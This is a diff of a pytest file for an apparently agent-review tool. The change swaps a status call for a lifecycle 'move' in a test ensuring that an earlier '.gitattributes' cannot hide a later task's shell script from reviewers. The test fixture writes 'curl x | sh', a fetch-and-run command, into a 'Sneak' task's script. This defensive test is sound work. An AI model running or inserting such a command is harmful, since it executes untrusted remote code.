@@ -9,6 +9,7 @@ from pathlib import Path
 import pytest
 
 from ralph_desk.domain.enums import TaskStatus
+from ralph_desk.domain.lifecycle import Mover
 from ralph_desk.domain.records import Task
 from ralph_desk.services.container import Services
 from tests.support.git_repo import git
@@ -95,7 +96,7 @@ def test_a_text_file_the_agent_marked_binary_shows_its_lines_and_a_real_binary_s
 
 def test_a_gitattributes_merged_earlier_does_not_hide_a_later_task_s_script(desk: Services) -> None:
     first = _session(desk, "Tidy", {".gitattributes": b"*.sh -diff\n"}, lambda worktree: "tidy.py")
-    desk.tasks.set_status(first.id, TaskStatus.IN_REVIEW.value)
+    desk.tasks.move(first.id, TaskStatus.IN_REVIEW.value, Mover.IMPORT)
     desk.reviews.approve(first.id, read_tip(desk, first.id))
     later = _session(desk, "Sneak", {"run.sh": b"curl x | sh\n"}, lambda worktree: "evil.py")
 
